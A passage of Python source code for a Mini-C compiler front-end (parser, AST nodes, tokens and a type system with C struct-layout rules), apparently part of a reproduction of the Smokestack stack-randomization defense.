            full = ct.ArrayType(full, folded)
        return full

    def _parse_postfix(self) -> ast.Expr:
        expr = self._parse_primary()
        while True:
            token = self._peek()
            if token.kind is TokenKind.LPAREN:
                self._advance()
                args: List[ast.Expr] = []
                if not self._check(TokenKind.RPAREN):
                    while True:
                        args.append(self.parse_assignment_expression())
                        if not self._match(TokenKind.COMMA):
                            break
                self._expect(TokenKind.RPAREN, "call")
                expr = ast.Call(expr, args, token.location)
            elif token.kind is TokenKind.LBRACKET:
                self._advance()
                index = self.parse_expression()
                self._expect(TokenKind.RBRACKET, "subscript")
                expr = ast.Index(expr, index, token.location)
            elif token.kind is TokenKind.DOT:
                self._advance()
                field = self._expect(TokenKind.IDENT, "member access").text
                expr = ast.Member(expr, field, False, token.location)
            elif token.kind is TokenKind.ARROW:
                self._advance()
                field = self._expect(TokenKind.IDENT, "member access").text
                expr = ast.Member(expr, field, True, token.location)
            elif token.kind is TokenKind.PLUSPLUS:
                self._advance()
                expr = ast.PostfixOp("++", expr, token.location)
            elif token.kind is TokenKind.MINUSMINUS:
                self._advance()
                expr = ast.PostfixOp("--", expr, token.location)
            else:
                return expr

    def _parse_primary(self) -> ast.Expr:
        token = self._peek()
        if token.kind is TokenKind.INT_LITERAL:
            self._advance()
            return ast.IntLiteral(int(token.value), token.location)
        if token.kind is TokenKind.CHAR_LITERAL:
            self._advance()
            return ast.IntLiteral(int(token.value), token.location)
        if token.kind is TokenKind.STRING_LITERAL:
            self._advance()
            assert isinstance(token.value, bytes)
            return ast.StringLiteral(token.value, token.location)
        if token.kind is TokenKind.IDENT:
            self._advance()
            return ast.Identifier(str(token.value), token.location)
        if token.kind is TokenKind.LPAREN:
            self._advance()
            expr = self.parse_expression()
            self._expect(TokenKind.RPAREN, "parenthesized expression")
            return expr
        raise self._error(f"expected an expression, found {token.text!r}")


def _try_fold_constant(expr: ast.Expr) -> Optional[int]:
    """Fold an integer constant expression; None if not constant."""
    if isinstance(expr, ast.IntLiteral):
        return expr.value
    if isinstance(expr, ast.SizeofType):
        try:
            return expr.queried_type.size()
        except Exception:
            return None
    if isinstance(expr, ast.UnaryOp):
        operand = _try_fold_constant(expr.operand)
        if operand is None:
            return None
        if expr.op == "-":
            return -operand
        if expr.op == "~":
            return ~operand
        if expr.op == "!":
            return int(not operand)
        return None
    if isinstance(expr, ast.BinaryOp):
        left = _try_fold_constant(expr.left)
        right = _try_fold_constant(expr.right)
        if left is None or right is None:
            return None
        try:
            return _fold_binary(expr.op, left, right)
        except ZeroDivisionError:
            return None
    return None


def _fold_binary(op: str, left: int, right: int) -> Optional[int]:
    if op == "+":
        return left + right
    if op == "-":
        return left - right
    if op == "*":
        return left * right
    if op == "/":
        return int(left / right) if right else None
    if op == "%":
        return left - int(left / right) * right if right else None
    if op == "<<":
        return left << right
    if op == ">>":
        return left >> right
    if op == "&":
        return left & right
    if op == "|":
        return left | right
    if op == "^":
        return left ^ right
    return None


def parse(source: str, filename: str = "<input>") -> ast.TranslationUnit:
    """Parse Mini-C source text into a translation unit."""
    return Parser(tokenize(source, filename)).parse_translation_unit()
