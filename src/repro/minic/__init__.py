"""Mini-C front-end: lexer, parser, type system and semantic analysis.

Mini-C is the C subset the Smokestack reproduction compiles.  The usual
entry point is :func:`compile_to_ast`, which runs the whole front-end and
returns a fully type-annotated translation unit ready for lowering.
"""

from repro.minic import astnodes
from repro.minic import types
from repro.minic.builtins import BUILTINS, UNSAFE_BUILTINS, builtin_function_type, is_builtin
from repro.minic.lexer import Lexer, tokenize
from repro.minic.parser import Parser, parse
from repro.minic.sema import Sema, analyze, is_lvalue


def compile_to_ast(source: str, filename: str = "<input>") -> astnodes.TranslationUnit:
    """Lex, parse and semantically analyze Mini-C ``source``."""
    return analyze(parse(source, filename))


__all__ = [
    "BUILTINS",
    "UNSAFE_BUILTINS",
    "Lexer",
    "Parser",
    "Sema",
    "analyze",
    "astnodes",
    "builtin_function_type",
    "compile_to_ast",
    "is_builtin",
    "is_lvalue",
    "parse",
    "tokenize",
    "types",
]
