"""AST node definitions for Mini-C.

Nodes are plain classes with ``__slots__``.  Every expression node gains a
``ctype`` attribute during semantic analysis (`repro.minic.sema`); the
parser leaves it ``None``.  Source locations are attached for diagnostics.
"""

from __future__ import annotations

from typing import List, Optional, Sequence, Tuple

from repro.errors import SourceLocation
from repro.minic.types import CType


class Node:
    """Base class for all AST nodes."""

    __slots__ = ("location",)

    def __init__(self, location: Optional[SourceLocation] = None):
        self.location = location or SourceLocation()

    def children(self) -> Sequence["Node"]:
        """Child nodes, used by generic traversals (tests, pretty printers)."""
        return ()

    def __repr__(self) -> str:
        return f"{type(self).__name__}()"


# ---------------------------------------------------------------------------
# Expressions
# ---------------------------------------------------------------------------


class Expr(Node):
    """Base class for expressions; ``ctype`` is filled in by sema."""

    __slots__ = ("ctype",)

    def __init__(self, location: Optional[SourceLocation] = None):
        super().__init__(location)
        self.ctype: Optional[CType] = None


class IntLiteral(Expr):
    __slots__ = ("value",)

    def __init__(self, value: int, location: Optional[SourceLocation] = None):
        super().__init__(location)
        self.value = value

    def __repr__(self) -> str:
        return f"IntLiteral({self.value})"


class FloatLiteral(Expr):
    __slots__ = ("value",)

    def __init__(self, value: float, location: Optional[SourceLocation] = None):
        super().__init__(location)
        self.value = value

    def __repr__(self) -> str:
        return f"FloatLiteral({self.value})"


class StringLiteral(Expr):
    """A byte-string literal; the terminating NUL is added during lowering."""

    __slots__ = ("value",)

    def __init__(self, value: bytes, location: Optional[SourceLocation] = None):
        super().__init__(location)
        self.value = value

    def __repr__(self) -> str:
        return f"StringLiteral({self.value!r})"


class Identifier(Expr):
    __slots__ = ("name", "decl")

    def __init__(self, name: str, location: Optional[SourceLocation] = None):
        super().__init__(location)
        self.name = name
        #: Resolved declaration (VarDecl / ParamDecl / FunctionDef), set by sema.
        self.decl: Optional[Node] = None

    def __repr__(self) -> str:
        return f"Identifier({self.name!r})"


class UnaryOp(Expr):
    """Prefix unary operators: ``- ! ~ * & ++ --``."""

    __slots__ = ("op", "operand")

    def __init__(self, op: str, operand: Expr, location: Optional[SourceLocation] = None):
        super().__init__(location)
        self.op = op
        self.operand = operand

    def children(self) -> Sequence[Node]:
        return (self.operand,)

    def __repr__(self) -> str:
        return f"UnaryOp({self.op!r})"


class PostfixOp(Expr):
    """Postfix ``++`` and ``--``."""

    __slots__ = ("op", "operand")

    def __init__(self, op: str, operand: Expr, location: Optional[SourceLocation] = None):
        super().__init__(location)
        self.op = op
        self.operand = operand

    def children(self) -> Sequence[Node]:
        return (self.operand,)

    def __repr__(self) -> str:
        return f"PostfixOp({self.op!r})"


class BinaryOp(Expr):
    """Binary operators, including comparisons and logical ``&& ||``."""

    __slots__ = ("op", "left", "right")

    def __init__(
        self,
        op: str,
        left: Expr,
        right: Expr,
        location: Optional[SourceLocation] = None,
    ):
        super().__init__(location)
        self.op = op
        self.left = left
        self.right = right

    def children(self) -> Sequence[Node]:
        return (self.left, self.right)

    def __repr__(self) -> str:
        return f"BinaryOp({self.op!r})"


class Assignment(Expr):
    """``lhs = rhs`` or a compound assignment like ``lhs += rhs``.

    For compound assignments ``op`` holds the arithmetic operator
    (e.g. ``"+"``); for plain assignment it is ``None``.
    """

    __slots__ = ("op", "target", "value")

    def __init__(
        self,
        target: Expr,
        value: Expr,
        op: Optional[str] = None,
        location: Optional[SourceLocation] = None,
    ):
        super().__init__(location)
        self.target = target
        self.value = value
        self.op = op

    def children(self) -> Sequence[Node]:
        return (self.target, self.value)

    def __repr__(self) -> str:
        return f"Assignment(op={self.op!r})"


class CompoundRead(Expr):
    """Marker for the implicit read of the target in ``lhs op= rhs``.

    Semantic analysis desugars ``lhs += rhs`` into a plain assignment whose
    value tree contains exactly one CompoundRead standing for the current
    value of ``lhs``.  Lowering evaluates the target address once, loads it,
    and substitutes the loaded value for this node — which is what C
    requires (the lvalue is evaluated a single time).
    """

    __slots__ = ()


class Conditional(Expr):
    """The ternary ``cond ? then : otherwise``."""

    __slots__ = ("condition", "then_expr", "else_expr")

    def __init__(
        self,
        condition: Expr,
        then_expr: Expr,
        else_expr: Expr,
        location: Optional[SourceLocation] = None,
    ):
        super().__init__(location)
        self.condition = condition
        self.then_expr = then_expr
        self.else_expr = else_expr

    def children(self) -> Sequence[Node]:
        return (self.condition, self.then_expr, self.else_expr)


class Call(Expr):
    __slots__ = ("callee", "args")

    def __init__(
        self,
        callee: Expr,
        args: Sequence[Expr],
        location: Optional[SourceLocation] = None,
    ):
        super().__init__(location)
        self.callee = callee
        self.args = list(args)

    def children(self) -> Sequence[Node]:
        return (self.callee, *self.args)

    def __repr__(self) -> str:
        return f"Call(nargs={len(self.args)})"


class Index(Expr):
    """Array subscript ``base[index]``."""

    __slots__ = ("base", "index")

    def __init__(self, base: Expr, index: Expr, location: Optional[SourceLocation] = None):
        super().__init__(location)
        self.base = base
        self.index = index

    def children(self) -> Sequence[Node]:
        return (self.base, self.index)


class Member(Expr):
    """Struct member access: ``base.field`` or ``base->field``."""

    __slots__ = ("base", "field", "is_arrow")

    def __init__(
        self,
        base: Expr,
        field: str,
        is_arrow: bool,
        location: Optional[SourceLocation] = None,
    ):
        super().__init__(location)
        self.base = base
        self.field = field
        self.is_arrow = is_arrow

    def children(self) -> Sequence[Node]:
        return (self.base,)

    def __repr__(self) -> str:
        op = "->" if self.is_arrow else "."
        return f"Member({op}{self.field})"


class Cast(Expr):
    __slots__ = ("target_type", "operand")

    def __init__(
        self,
        target_type: CType,
        operand: Expr,
        location: Optional[SourceLocation] = None,
    ):
        super().__init__(location)
        self.target_type = target_type
        self.operand = operand

    def children(self) -> Sequence[Node]:
        return (self.operand,)

    def __repr__(self) -> str:
        return f"Cast({self.target_type})"


class SizeofType(Expr):
    __slots__ = ("queried_type",)

    def __init__(self, queried_type: CType, location: Optional[SourceLocation] = None):
        super().__init__(location)
        self.queried_type = queried_type


class SizeofExpr(Expr):
    __slots__ = ("operand",)

    def __init__(self, operand: Expr, location: Optional[SourceLocation] = None):
        super().__init__(location)
        self.operand = operand

    def children(self) -> Sequence[Node]:
        return (self.operand,)


# ---------------------------------------------------------------------------
# Statements and declarations
# ---------------------------------------------------------------------------


class Stmt(Node):
    """Base class for statements."""

    __slots__ = ()


class ExprStmt(Stmt):
    __slots__ = ("expr",)

    def __init__(self, expr: Expr, location: Optional[SourceLocation] = None):
        super().__init__(location)
        self.expr = expr

    def children(self) -> Sequence[Node]:
        return (self.expr,)


class EmptyStmt(Stmt):
    __slots__ = ()


class VarDecl(Stmt):
    """A local (or global) variable declaration.

    ``vla_length`` is the runtime length expression when the declared type
    is a variable-length array; the declared type is then an ArrayType with
    ``length=None``.
    """

    __slots__ = ("name", "declared_type", "initializer", "vla_length", "is_global")

    def __init__(
        self,
        name: str,
        declared_type: CType,
        initializer: Optional[Expr] = None,
        vla_length: Optional[Expr] = None,
        is_global: bool = False,
        location: Optional[SourceLocation] = None,
    ):
        super().__init__(location)
        self.name = name
        self.declared_type = declared_type
        self.initializer = initializer
        self.vla_length = vla_length
        self.is_global = is_global

    def children(self) -> Sequence[Node]:
        kids: List[Node] = []
        if self.vla_length is not None:
            kids.append(self.vla_length)
        if self.initializer is not None:
            kids.append(self.initializer)
        return tuple(kids)

    def __repr__(self) -> str:
        return f"VarDecl({self.name!r}: {self.declared_type})"


class DeclStmt(Stmt):
    """One declaration statement, possibly declaring several variables."""

    __slots__ = ("decls",)

    def __init__(self, decls: Sequence[VarDecl], location: Optional[SourceLocation] = None):
        super().__init__(location)
        self.decls = list(decls)

    def children(self) -> Sequence[Node]:
        return tuple(self.decls)


class Block(Stmt):
    __slots__ = ("statements",)

    def __init__(self, statements: Sequence[Stmt], location: Optional[SourceLocation] = None):
        super().__init__(location)
        self.statements = list(statements)

    def children(self) -> Sequence[Node]:
        return tuple(self.statements)


class If(Stmt):
    __slots__ = ("condition", "then_branch", "else_branch")

    def __init__(
        self,
        condition: Expr,
        then_branch: Stmt,
        else_branch: Optional[Stmt] = None,
        location: Optional[SourceLocation] = None,
    ):
        super().__init__(location)
        self.condition = condition
        self.then_branch = then_branch
        self.else_branch = else_branch

    def children(self) -> Sequence[Node]:
        kids: List[Node] = [self.condition, self.then_branch]
        if self.else_branch is not None:
            kids.append(self.else_branch)
        return tuple(kids)


class While(Stmt):
    __slots__ = ("condition", "body")

    def __init__(self, condition: Expr, body: Stmt, location: Optional[SourceLocation] = None):
        super().__init__(location)
        self.condition = condition
        self.body = body

    def children(self) -> Sequence[Node]:
        return (self.condition, self.body)


class DoWhile(Stmt):
    __slots__ = ("body", "condition")

    def __init__(self, body: Stmt, condition: Expr, location: Optional[SourceLocation] = None):
        super().__init__(location)
        self.body = body
        self.condition = condition

    def children(self) -> Sequence[Node]:
        return (self.body, self.condition)


class For(Stmt):
    """``for (init; condition; step) body``; any part may be absent."""

    __slots__ = ("init", "condition", "step", "body")

    def __init__(
        self,
        init: Optional[Stmt],
        condition: Optional[Expr],
        step: Optional[Expr],
        body: Stmt,
        location: Optional[SourceLocation] = None,
    ):
        super().__init__(location)
        self.init = init
        self.condition = condition
        self.step = step
        self.body = body

    def children(self) -> Sequence[Node]:
        kids: List[Node] = []
        for part in (self.init, self.condition, self.step):
            if part is not None:
                kids.append(part)
        kids.append(self.body)
        return tuple(kids)


class Return(Stmt):
    __slots__ = ("value",)

    def __init__(self, value: Optional[Expr] = None, location: Optional[SourceLocation] = None):
        super().__init__(location)
        self.value = value

    def children(self) -> Sequence[Node]:
        return (self.value,) if self.value is not None else ()


class Break(Stmt):
    __slots__ = ()


class Continue(Stmt):
    __slots__ = ()


# ---------------------------------------------------------------------------
# Top level
# ---------------------------------------------------------------------------


class ParamDecl(Node):
    __slots__ = ("name", "declared_type")

    def __init__(self, name: str, declared_type: CType, location: Optional[SourceLocation] = None):
        super().__init__(location)
        self.name = name
        self.declared_type = declared_type

    def __repr__(self) -> str:
        return f"ParamDecl({self.name!r}: {self.declared_type})"


class FunctionDef(Node):
    """A function definition (or declaration if ``body is None``)."""

    __slots__ = ("name", "return_type", "params", "body", "is_extern")

    def __init__(
        self,
        name: str,
        return_type: CType,
        params: Sequence[ParamDecl],
        body: Optional[Block],
        is_extern: bool = False,
        location: Optional[SourceLocation] = None,
    ):
        super().__init__(location)
        self.name = name
        self.return_type = return_type
        self.params = list(params)
        self.body = body
        self.is_extern = is_extern

    def children(self) -> Sequence[Node]:
        kids: List[Node] = list(self.params)
        if self.body is not None:
            kids.append(self.body)
        return tuple(kids)

    def __repr__(self) -> str:
        return f"FunctionDef({self.name!r})"


class StructDef(Node):
    """A top-level struct definition; the StructType is completed in place."""

    __slots__ = ("struct_type",)

    def __init__(self, struct_type, location: Optional[SourceLocation] = None):
        super().__init__(location)
        self.struct_type = struct_type

    def __repr__(self) -> str:
        return f"StructDef({self.struct_type.tag!r})"


class TranslationUnit(Node):
    """The root of a parsed Mini-C source file."""

    __slots__ = ("declarations",)

    def __init__(self, declarations: Sequence[Node], location: Optional[SourceLocation] = None):
        super().__init__(location)
        self.declarations = list(declarations)

    def children(self) -> Sequence[Node]:
        return tuple(self.declarations)

    def functions(self) -> List[FunctionDef]:
        """All function definitions (with bodies) in declaration order."""
        return [
            decl
            for decl in self.declarations
            if isinstance(decl, FunctionDef) and decl.body is not None
        ]

    def globals(self) -> List[VarDecl]:
        """All global variable declarations in declaration order."""
        return [decl for decl in self.declarations if isinstance(decl, VarDecl)]


def walk(node: Node):
    """Yield ``node`` and all descendants in pre-order."""
    yield node
    for child in node.children():
        yield from walk(child)
