"""Token definitions for the Mini-C front-end.

Mini-C is the C subset the reproduction compiles: enough of C to express
the stack shapes Smokestack cares about (scalar locals of several widths,
fixed-size buffers, structs, pointers, variable-length arrays) and the
control flow DOP attacks exploit (loops, conditionals, calls).
"""

from __future__ import annotations

import enum
from typing import Optional, Union

from repro.errors import SourceLocation


class TokenKind(enum.Enum):
    """Every lexical category recognised by the Mini-C lexer."""

    # Literals and identifiers.
    IDENT = "identifier"
    INT_LITERAL = "integer literal"
    CHAR_LITERAL = "character literal"
    STRING_LITERAL = "string literal"

    # Keywords.
    KW_INT = "int"
    KW_CHAR = "char"
    KW_SHORT = "short"
    KW_LONG = "long"
    KW_DOUBLE = "double"
    KW_FLOAT = "float"
    KW_VOID = "void"
    KW_UNSIGNED = "unsigned"
    KW_STRUCT = "struct"
    KW_IF = "if"
    KW_ELSE = "else"
    KW_WHILE = "while"
    KW_FOR = "for"
    KW_DO = "do"
    KW_RETURN = "return"
    KW_BREAK = "break"
    KW_CONTINUE = "continue"
    KW_SIZEOF = "sizeof"
    KW_CONST = "const"
    KW_STATIC = "static"
    KW_EXTERN = "extern"

    # Punctuation and operators.
    LPAREN = "("
    RPAREN = ")"
    LBRACE = "{"
    RBRACE = "}"
    LBRACKET = "["
    RBRACKET = "]"
    SEMICOLON = ";"
    COMMA = ","
    DOT = "."
    ARROW = "->"
    PLUS = "+"
    MINUS = "-"
    STAR = "*"
    SLASH = "/"
    PERCENT = "%"
    AMP = "&"
    PIPE = "|"
    CARET = "^"
    TILDE = "~"
    BANG = "!"
    LSHIFT = "<<"
    RSHIFT = ">>"
    LT = "<"
    GT = ">"
    LE = "<="
    GE = ">="
    EQ = "=="
    NE = "!="
    ANDAND = "&&"
    OROR = "||"
    ASSIGN = "="
    PLUS_ASSIGN = "+="
    MINUS_ASSIGN = "-="
    STAR_ASSIGN = "*="
    SLASH_ASSIGN = "/="
    PERCENT_ASSIGN = "%="
    AMP_ASSIGN = "&="
    PIPE_ASSIGN = "|="
    CARET_ASSIGN = "^="
    LSHIFT_ASSIGN = "<<="
    RSHIFT_ASSIGN = ">>="
    PLUSPLUS = "++"
    MINUSMINUS = "--"
    QUESTION = "?"
    COLON = ":"

    EOF = "end of input"


#: Keyword spelling -> token kind.  The lexer consults this after scanning
#: an identifier-shaped lexeme.
KEYWORDS = {
    "int": TokenKind.KW_INT,
    "char": TokenKind.KW_CHAR,
    "short": TokenKind.KW_SHORT,
    "long": TokenKind.KW_LONG,
    "double": TokenKind.KW_DOUBLE,
    "float": TokenKind.KW_FLOAT,
    "void": TokenKind.KW_VOID,
    "unsigned": TokenKind.KW_UNSIGNED,
    "struct": TokenKind.KW_STRUCT,
    "if": TokenKind.KW_IF,
    "else": TokenKind.KW_ELSE,
    "while": TokenKind.KW_WHILE,
    "for": TokenKind.KW_FOR,
    "do": TokenKind.KW_DO,
    "return": TokenKind.KW_RETURN,
    "break": TokenKind.KW_BREAK,
    "continue": TokenKind.KW_CONTINUE,
    "sizeof": TokenKind.KW_SIZEOF,
    "const": TokenKind.KW_CONST,
    "static": TokenKind.KW_STATIC,
    "extern": TokenKind.KW_EXTERN,
}

#: Multi-character operators, longest first so the lexer can do maximal munch
#: by probing in order.
MULTI_CHAR_OPERATORS = [
    ("<<=", TokenKind.LSHIFT_ASSIGN),
    (">>=", TokenKind.RSHIFT_ASSIGN),
    ("->", TokenKind.ARROW),
    ("<<", TokenKind.LSHIFT),
    (">>", TokenKind.RSHIFT),
    ("<=", TokenKind.LE),
    (">=", TokenKind.GE),
    ("==", TokenKind.EQ),
    ("!=", TokenKind.NE),
    ("&&", TokenKind.ANDAND),
    ("||", TokenKind.OROR),
    ("+=", TokenKind.PLUS_ASSIGN),
    ("-=", TokenKind.MINUS_ASSIGN),
    ("*=", TokenKind.STAR_ASSIGN),
    ("/=", TokenKind.SLASH_ASSIGN),
    ("%=", TokenKind.PERCENT_ASSIGN),
    ("&=", TokenKind.AMP_ASSIGN),
    ("|=", TokenKind.PIPE_ASSIGN),
    ("^=", TokenKind.CARET_ASSIGN),
    ("++", TokenKind.PLUSPLUS),
    ("--", TokenKind.MINUSMINUS),
]

#: Single-character operators/punctuation.
SINGLE_CHAR_OPERATORS = {
    "(": TokenKind.LPAREN,
    ")": TokenKind.RPAREN,
    "{": TokenKind.LBRACE,
    "}": TokenKind.RBRACE,
    "[": TokenKind.LBRACKET,
    "]": TokenKind.RBRACKET,
    ";": TokenKind.SEMICOLON,
    ",": TokenKind.COMMA,
    ".": TokenKind.DOT,
    "+": TokenKind.PLUS,
    "-": TokenKind.MINUS,
    "*": TokenKind.STAR,
    "/": TokenKind.SLASH,
    "%": TokenKind.PERCENT,
    "&": TokenKind.AMP,
    "|": TokenKind.PIPE,
    "^": TokenKind.CARET,
    "~": TokenKind.TILDE,
    "!": TokenKind.BANG,
    "<": TokenKind.LT,
    ">": TokenKind.GT,
    "=": TokenKind.ASSIGN,
    "?": TokenKind.QUESTION,
    ":": TokenKind.COLON,
}


class Token:
    """A single lexical token with its source location.

    ``value`` carries the decoded payload for literal tokens: an ``int`` for
    integer and character literals, a ``bytes`` object for string literals
    (already unescaped, without the terminating NUL), and the spelling for
    identifiers.
    """

    __slots__ = ("kind", "text", "value", "location")

    def __init__(
        self,
        kind: TokenKind,
        text: str,
        location: SourceLocation,
        value: Union[int, str, bytes, None] = None,
    ):
        self.kind = kind
        self.text = text
        self.location = location
        self.value = value

    def __repr__(self) -> str:
        return f"Token({self.kind.name}, {self.text!r})"

    def is_type_start(self) -> bool:
        """Return True if this token can begin a type specifier."""
        return self.kind in _TYPE_START_KINDS


_TYPE_START_KINDS = frozenset(
    {
        TokenKind.KW_INT,
        TokenKind.KW_CHAR,
        TokenKind.KW_SHORT,
        TokenKind.KW_LONG,
        TokenKind.KW_DOUBLE,
        TokenKind.KW_FLOAT,
        TokenKind.KW_VOID,
        TokenKind.KW_UNSIGNED,
        TokenKind.KW_STRUCT,
        TokenKind.KW_CONST,
        TokenKind.KW_STATIC,
        TokenKind.KW_EXTERN,
    }
)
