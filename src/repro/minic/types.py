"""The Mini-C type system.

Types know their size and alignment under the reproduction's fixed data
layout, which mirrors the LP64 model the paper's x86-64 testbed used:

=========  ====  =========
type       size  alignment
=========  ====  =========
char       1     1
short      2     2
int        4     4
long       8     8
float      4     4
double     8     8
pointer    8     8
=========  ====  =========

Struct layout follows the usual C rules: each field is placed at the next
offset aligned to its own alignment, and the struct's alignment is the
maximum field alignment, with the total size rounded up to that alignment.
These sizes/alignments are exactly the inputs Smokestack's permutation
engine consumes (paper §III-D, "Alignment requirements").
"""

from __future__ import annotations

from typing import List, Optional, Sequence, Tuple

from repro.errors import SemanticError

POINTER_SIZE = 8
POINTER_ALIGN = 8


class CType:
    """Base class for all Mini-C types."""

    def size(self) -> int:
        """Size in bytes.  Raises for incomplete types (e.g. VLAs)."""
        raise NotImplementedError

    def alignment(self) -> int:
        """Required alignment in bytes."""
        raise NotImplementedError

    def is_complete(self) -> bool:
        """Whether the size is known at compile time."""
        return True

    def is_integer(self) -> bool:
        return False

    def is_float(self) -> bool:
        return False

    def is_arithmetic(self) -> bool:
        return self.is_integer() or self.is_float()

    def is_pointer(self) -> bool:
        return False

    def is_array(self) -> bool:
        return False

    def is_struct(self) -> bool:
        return False

    def is_void(self) -> bool:
        return False

    def is_scalar(self) -> bool:
        return self.is_arithmetic() or self.is_pointer()

    def __eq__(self, other: object) -> bool:
        raise NotImplementedError

    def __hash__(self) -> int:
        raise NotImplementedError


class VoidType(CType):
    """The ``void`` type: no size, only usable behind pointers / as return."""

    def size(self) -> int:
        raise SemanticError("void type has no size")

    def alignment(self) -> int:
        raise SemanticError("void type has no alignment")

    def is_void(self) -> bool:
        return True

    def is_complete(self) -> bool:
        return False

    def __eq__(self, other: object) -> bool:
        return isinstance(other, VoidType)

    def __hash__(self) -> int:
        return hash("void")

    def __str__(self) -> str:
        return "void"


class IntType(CType):
    """An integer type of a given width and signedness."""

    __slots__ = ("name", "_size", "signed")

    def __init__(self, name: str, size: int, signed: bool = True):
        self.name = name
        self._size = size
        self.signed = signed

    def size(self) -> int:
        return self._size

    def alignment(self) -> int:
        return self._size

    def is_integer(self) -> bool:
        return True

    def min_value(self) -> int:
        if self.signed:
            return -(1 << (self._size * 8 - 1))
        return 0

    def max_value(self) -> int:
        if self.signed:
            return (1 << (self._size * 8 - 1)) - 1
        return (1 << (self._size * 8)) - 1

    def __eq__(self, other: object) -> bool:
        return (
            isinstance(other, IntType)
            and other._size == self._size
            and other.signed == self.signed
        )

    def __hash__(self) -> int:
        return hash(("int", self._size, self.signed))

    def __str__(self) -> str:
        return self.name


class FloatType(CType):
    """A floating-point type (``float`` or ``double``)."""

    __slots__ = ("name", "_size")

    def __init__(self, name: str, size: int):
        self.name = name
        self._size = size

    def size(self) -> int:
        return self._size

    def alignment(self) -> int:
        return self._size

    def is_float(self) -> bool:
        return True

    def __eq__(self, other: object) -> bool:
        return isinstance(other, FloatType) and other._size == self._size

    def __hash__(self) -> int:
        return hash(("float", self._size))

    def __str__(self) -> str:
        return self.name


class PointerType(CType):
    """Pointer to ``pointee``."""

    __slots__ = ("pointee",)

    def __init__(self, pointee: CType):
        self.pointee = pointee

    def size(self) -> int:
        return POINTER_SIZE

    def alignment(self) -> int:
        return POINTER_ALIGN

    def is_pointer(self) -> bool:
        return True

    def __eq__(self, other: object) -> bool:
        return isinstance(other, PointerType) and other.pointee == self.pointee

    def __hash__(self) -> int:
        return hash(("ptr", self.pointee))

    def __str__(self) -> str:
        return f"{self.pointee}*"


class ArrayType(CType):
    """Array of ``element``; ``length is None`` means a VLA / incomplete array.

    VLAs are central to the paper: Smokestack defers their randomization to
    runtime by inserting a random-sized dummy allocation before each VLA
    (§III-D.1), so the type system must represent them distinctly.
    """

    __slots__ = ("element", "length")

    def __init__(self, element: CType, length: Optional[int]):
        if length is not None and length < 0:
            raise SemanticError("array length cannot be negative")
        self.element = element
        self.length = length

    def size(self) -> int:
        if self.length is None:
            raise SemanticError("size of variable-length array is not static")
        return self.element.size() * self.length

    def alignment(self) -> int:
        return self.element.alignment()

    def is_array(self) -> bool:
        return True

    def is_complete(self) -> bool:
        return self.length is not None and self.element.is_complete()

    def __eq__(self, other: object) -> bool:
        return (
            isinstance(other, ArrayType)
            and other.element == self.element
            and other.length == self.length
        )

    def __hash__(self) -> int:
        return hash(("array", self.element, self.length))

    def __str__(self) -> str:
        length = "" if self.length is None else str(self.length)
        return f"{self.element}[{length}]"


class StructType(CType):
    """A struct with named fields laid out per the C ABI rules.

    Field offsets (including inter-field padding) are computed eagerly when
    the struct is completed with :meth:`set_fields`; this is the recursive
    aggregate-alignment computation the paper describes in §IV-A.
    """

    def __init__(self, tag: str):
        self.tag = tag
        self._fields: Optional[List[Tuple[str, CType]]] = None
        self._offsets: List[int] = []
        self._size = 0
        self._align = 1

    @property
    def fields(self) -> List[Tuple[str, CType]]:
        if self._fields is None:
            raise SemanticError(f"struct {self.tag} is incomplete")
        return self._fields

    def set_fields(self, fields: Sequence[Tuple[str, CType]]) -> None:
        if self._fields is not None:
            raise SemanticError(f"struct {self.tag} redefined")
        seen = set()
        offsets = []
        offset = 0
        align = 1
        for name, field_type in fields:
            if name in seen:
                raise SemanticError(
                    f"duplicate field '{name}' in struct {self.tag}"
                )
            if not field_type.is_complete():
                raise SemanticError(
                    f"field '{name}' of struct {self.tag} has incomplete type"
                )
            seen.add(name)
            field_align = field_type.alignment()
            offset = align_up(offset, field_align)
            offsets.append(offset)
            offset += field_type.size()
            align = max(align, field_align)
        self._fields = list(fields)
        self._offsets = offsets
        self._align = align
        self._size = align_up(offset, align) if fields else 0

    def is_complete(self) -> bool:
        return self._fields is not None

    def size(self) -> int:
        if self._fields is None:
            raise SemanticError(f"struct {self.tag} is incomplete")
        return self._size

    def alignment(self) -> int:
        if self._fields is None:
            raise SemanticError(f"struct {self.tag} is incomplete")
        return self._align

    def is_struct(self) -> bool:
        return True

    def field_index(self, name: str) -> int:
        for index, (field_name, _) in enumerate(self.fields):
            if field_name == name:
                return index
        raise SemanticError(f"struct {self.tag} has no field '{name}'")

    def field_offset(self, index: int) -> int:
        self.fields  # raise if incomplete
        return self._offsets[index]

    def field_type(self, index: int) -> CType:
        return self.fields[index][1]

    # Structs use nominal identity (same as C): two structs are the same
    # type only if they are the same object.
    def __eq__(self, other: object) -> bool:
        return self is other

    def __hash__(self) -> int:
        return id(self)

    def __str__(self) -> str:
        return f"struct {self.tag}"


class FunctionType(CType):
    """The type of a function: return type + parameter types."""

    __slots__ = ("return_type", "params", "variadic")

    def __init__(self, return_type: CType, params: Sequence[CType], variadic: bool = False):
        self.return_type = return_type
        self.params = list(params)
        self.variadic = variadic

    def size(self) -> int:
        raise SemanticError("function type has no size")

    def alignment(self) -> int:
        raise SemanticError("function type has no alignment")

    def is_complete(self) -> bool:
        return False

    def __eq__(self, other: object) -> bool:
        return (
            isinstance(other, FunctionType)
            and other.return_type == self.return_type
            and other.params == self.params
            and other.variadic == self.variadic
        )

    def __hash__(self) -> int:
        return hash(("fn", self.return_type, tuple(self.params), self.variadic))

    def __str__(self) -> str:
        params = ", ".join(str(p) for p in self.params)
        if self.variadic:
            params = params + ", ..." if params else "..."
        return f"{self.return_type}({params})"


def align_up(value: int, alignment: int) -> int:
    """Round ``value`` up to the next multiple of ``alignment``.

    This is the ALIGN procedure from the paper's Algorithm 1.
    """
    if alignment <= 0:
        raise ValueError("alignment must be positive")
    remainder = value % alignment
    if remainder == 0:
        return value
    return value + alignment - remainder


# Canonical type singletons.  Mini-C code should use these rather than
# constructing fresh IntType instances, so identity-ish comparisons stay cheap.
VOID = VoidType()
CHAR = IntType("char", 1, signed=True)
UCHAR = IntType("unsigned char", 1, signed=False)
SHORT = IntType("short", 2, signed=True)
USHORT = IntType("unsigned short", 2, signed=False)
INT = IntType("int", 4, signed=True)
UINT = IntType("unsigned int", 4, signed=False)
LONG = IntType("long", 8, signed=True)
ULONG = IntType("unsigned long", 8, signed=False)
FLOAT = FloatType("float", 4)
DOUBLE = FloatType("double", 8)


def pointer_to(pointee: CType) -> PointerType:
    """Build a pointer type (tiny helper for readability)."""
